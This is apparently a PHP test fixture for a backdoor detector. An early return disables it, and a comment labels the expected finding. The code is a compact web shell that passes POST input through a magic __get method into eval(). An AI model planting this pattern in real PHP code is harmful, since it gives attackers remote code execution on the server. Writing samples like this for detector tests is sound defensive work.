<?php return; // want: malicious backdoor php.code.request
class Box { function __get($name) { return $_POST[$name]; } }
$box = new Box;
eval($box->inside);
